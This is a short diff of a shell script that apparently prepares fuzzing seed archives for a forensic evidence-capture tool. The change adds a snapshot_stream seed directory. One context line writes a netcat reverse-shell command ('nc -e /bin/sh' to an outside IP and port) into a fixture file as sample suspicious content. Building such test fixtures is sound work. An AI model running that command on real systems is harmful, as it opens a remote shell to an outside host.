@@ -38,10 +38,11 @@ printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n' >"$work/src/log/x.sh"
 "$exhibit" capture "$work/src" -o "$work/out2" --case FUZZ-1 --examiner Ann -q --json >/dev/null
 zip2=$(ls "$work/out2"/*.zip)
 
-mkdir -p "$seeds/archive_verify" "$seeds/snapshot" "$seeds/custody_log" "$seeds/allowed_signers"
+mkdir -p "$seeds/archive_verify" "$seeds/snapshot" "$seeds/snapshot_stream" "$seeds/custody_log" "$seeds/allowed_signers"
 cp "$zip" "$seeds/archive_verify/sample.zip"
 cp "$zip" "$seeds/snapshot/sample.zip"
 cp "$zip2" "$seeds/snapshot/changed.zip"
+cp "$zip2" "$seeds/snapshot_stream/changed.zip"
 cp "$log" "$seeds/custody_log/signed.custody.jsonl"
 ann=$(cat "$work/ann.pub")
 bob=$(cat "$work/bob.pub")
